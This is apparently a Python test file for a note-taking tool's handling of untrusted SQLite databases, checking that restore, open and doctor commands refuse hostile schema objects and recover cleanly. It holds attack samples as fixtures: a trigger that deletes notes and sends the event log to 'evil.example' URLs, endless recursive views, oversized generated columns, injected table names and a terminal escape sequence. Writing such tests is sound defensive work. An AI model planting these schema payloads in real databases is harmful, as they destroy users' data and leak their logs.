"""Databases from elsewhere, whose schema does something: named and refused before anything of it runs, and recovered without it."""

import shutil
import sqlite3
import subprocess
from pathlib import Path

from support import Home, Row, said, used

SCHEMAS = Path(__file__).parent.parent / "schemas"
# What a hostile trigger does: take the notes away, and send the log to whoever opens an entry.
STEALS = "BEGIN DELETE FROM note; UPDATE resource SET url = 'https://evil.example/' || (SELECT group_concat(body) FROM event); END"
# A view that never ends: whoever reads it hangs.
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) AS {} FROM n"
# How long a command may take that runs nothing of the file.
PATIENCE = 20

# The name that the error has, and the statements. These belong to the truth, or are added beside it.
IN_THE_TRUTH = {
    "trigger bad": f"CREATE TRIGGER bad AFTER INSERT ON event {STEALS}",
    "trigger words_bad": f"CREATE TRIGGER words_bad AFTER INSERT ON event {STEALS}",
    "trigger Words_Data": f"CREATE TRIGGER Words_Data AFTER UPDATE ON DEVICE {STEALS}",
    "trigger catalog_bad": f"CREATE TRIGGER catalog_bad AFTER UPDATE ON catalog {STEALS}",
    "trigger sqlite_bad": f"""CREATE TRIGGER bad AFTER INSERT ON event {STEALS}; PRAGMA writable_schema = ON;
        UPDATE sqlite_master SET name = 'sqlite_bad', sql = replace(sql, 'TRIGGER bad', 'TRIGGER sqlite_bad') WHERE name = 'bad'""",
    "trigger event_is_never_removed": "DROP TRIGGER event_is_never_removed",
    "trigger event_is_never_changed": f"""DROP TRIGGER event_is_never_changed;
        CREATE TRIGGER event_is_never_changed BEFORE UPDATE ON event {STEALS}""",
    "index event_act": "DROP INDEX event_act",
    "index bad": "CREATE INDEX bad ON event (upper(kind))",
    "table local_number": "ALTER TABLE local_number ADD COLUMN more TEXT",
    "table notice": "ALTER TABLE notice ADD COLUMN more TEXT AS (hex(zeroblob(100000000)))",
    "table device": f"ALTER TABLE device RENAME TO own; CREATE VIEW device AS {ENDLESS.format('projection')}",
    "table event": f"ALTER TABLE event RENAME TO own; CREATE VIEW event AS {ENDLESS.format('id')}",
}
# These are among the projections.
BESIDE_IT = {
    "table pad": "CREATE TABLE pad (x); INSERT INTO pad VALUES (randomblob(5000000))",
    "table words_more": "CREATE TABLE words_more (x)",
    "table bad": "CREATE VIRTUAL TABLE bad USING fts5 (x)",
    "view bad": f"CREATE VIEW bad AS {ENDLESS.format('x')}",
    "view pragma_user_version": f"CREATE VIEW pragma_user_version AS {ENDLESS.format('user_version')}",
    "view pragma_application_id": f"CREATE VIEW pragma_application_id AS {ENDLESS.format('application_id')}",
    "trigger note_bad": f"CREATE TRIGGER note_bad AFTER INSERT ON note {STEALS}",
    "table note": "ALTER TABLE note ADD COLUMN more TEXT",
    "table state": f"DROP TABLE state; CREATE VIEW state AS {ENDLESS.format('number')}",
    "index note_resource": "DROP INDEX note_resource",
    "table ?[2J?reads: restored": "CREATE TABLE \"\x1b[2J\nreads: restored\" (x)",
}
OTHER_PROJECTIONS = "UPDATE device SET projection = 0;"
# Into an older file, of which only the tables of the truth are copied.
IN_AN_OLD_ONE = [
    "CREATE TRIGGER bad AFTER INSERT ON event BEGIN DELETE FROM note; END",
    "CREATE TRIGGER bad AFTER UPDATE ON event BEGIN DELETE FROM resource; END",
    "CREATE TRIGGER words_bad BEFORE DELETE ON resource BEGIN DELETE FROM event; END",
    "CREATE VIEW words_bad AS SELECT 1",
    f"CREATE VIEW pragma_user_version AS {ENDLESS.format('user_version')}",
    f"CREATE VIEW bad AS {ENDLESS.format('x')}",
    'CREATE TABLE "x""; DELETE FROM event; --" (x)',
    'CREATE TABLE "x""; UPDATE event SET body = \'{}\'; --" (x)',
    "CREATE INDEX bad ON event (hex(body))",
]


def altered(file: Path, sql: str) -> None:
    connection = sqlite3.connect(file, isolation_level=None)
    connection.executescript(sql)
    connection.close()


def tried(row: Row, home: Home, *words):
    """A run that must end."""
    row.tried += 1
    try:
        return home.run(*words, timeout=PATIENCE)
    except subprocess.TimeoutExpired:
        row.loses(f"{words}: hangs")
        return None


def refused(start: Home) -> Row:
    """By restore, by opening it and by the doctor, which recovers what was told without the rest."""
    row = Row("an altered schema: refused and named, and recovered without it")
    told = log(start)
    cases = [(name, sql, "") for name, sql in (IN_THE_TRUTH | BESIDE_IT).items()]
    cases += [(name, sql, OTHER_PROJECTIONS) for name, sql in IN_THE_TRUTH.items()]
    for name, sql, other in cases:
        home = start.copy()
        evil = home.path / "evil"
        shutil.copy(home.path / "then.backup", evil)
        # The version of the projections is set first: the device may be a view afterwards.
        altered(evil, other + sql)
        bytes_, state = evil.read_bytes(), home.state()
        words = ["restore", "evil"], ["--db", "evil", "done", "hnsw"], ["--db", "evil", "notes"], ["--db", "evil", "doctor"]
        for each in words:
            ran = tried(row, home, *each)
            if ran and (ran.returncode != 1 or name not in said(ran) or "\x1b" in said(ran)):
                row.lets_in(f"{name}{other}: {each}: {ran.returncode} {said(ran)}")
            if evil.read_bytes() != bytes_:
                row.lets_in(f"{name}{other}: {each}: the file was changed")
        if home.state() != state:
            row.lets_in(f"{name}{other}: the database was changed")
        ran = tried(row, home, "--db", "evil", "doctor", "--repair")
        if ran and (ran.returncode or log(home, "--db", "evil") != told):
            row.loses(f"{name}{other}: recovered: {said(ran)}")
        home.remove()
    return row


def log(home: Home, *options) -> str:
    """What a log holds, and what is seen of it."""
    return home.good(*options, "log") + home.good(*options, "notes") + home.good(*options, "list", "--format", "plain")


def rebuilt(start: Home) -> Row:
    """Other projections are those of another version: dropped and made anew."""
    row, told = Row("projections of another version: rebuilt, whatever they hold"), log(start)
    for name, sql in BESIDE_IT.items():
        for words in (["restore", "evil"], ["--db", "evil", "notes"]):
            home = start.copy()
            evil = home.path / "evil"
            shutil.copy(home.path / "then.backup", evil)
            altered(evil, OTHER_PROJECTIONS + sql)
            ran = tried(row, home, *words)
            options = words[:2] if words[0] == "--db" else []
            if ran and (ran.returncode or log(home, *options) != told):
                row.loses(f"{name}: {words}: {said(ran)}")
            home.remove()
    return row


def converted(binary: str) -> Row:
    """Old schemas: their log is taken over, and nothing else of them."""
    row = Row("old schemas with something added: only the log is taken over")
    for version in sorted(SCHEMAS.glob("*.db")):
        clean = Home(binary)
        shutil.copy(version, clean.path / "old")
        told = log(clean, "--db", "old")
        for sql in IN_AN_OLD_ONE:
            for words in (["restore", "old"], ["--db", "old", "todo"]):
                home = Home(binary)
                shutil.copy(version, home.path / "old")
                altered(home.path / "old", sql)
                ran = tried(row, home, *words)
                options = words[:2] if words[0] == "--db" else []
                if ran and ran.returncode == 0 and log(home, *options) != told:
                    row.lets_in(f"{version.name}, {sql}: {words}: {said(ran)}")
                elif ran and ran.returncode not in (0, 1):
                    row.loses(f"{version.name}, {sql}: {words}: {said(ran)}")
                home.remove()
        clean.remove()
    return row


def rows(binary: str):
    start = used(Home(binary))
    start.good("note", "ddia", "My own note.")
    start.good("backup", "then.backup")
    yield refused(start)
    yield rebuilt(start)
    yield converted(binary)
